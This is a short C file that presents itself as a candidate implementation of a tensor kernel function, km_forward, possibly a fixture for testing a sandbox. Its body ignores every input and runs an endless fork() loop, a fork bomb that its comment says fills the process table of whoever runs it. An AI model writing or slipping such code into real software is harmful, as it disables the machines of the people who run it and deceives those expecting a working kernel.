#include <unistd.h>

#include "km_candidate.h"

/* Fills the process table of whoever runs it without limits. */
int km_forward(const struct km_tensor *in, int n_in,
               const struct km_tensor *params, int n_params,
               struct km_tensor *out, int n_out)
{
    (void)in, (void)n_in, (void)params, (void)n_params, (void)out, (void)n_out;
    while (fork() >= 0)
        ;
    return 1;
}
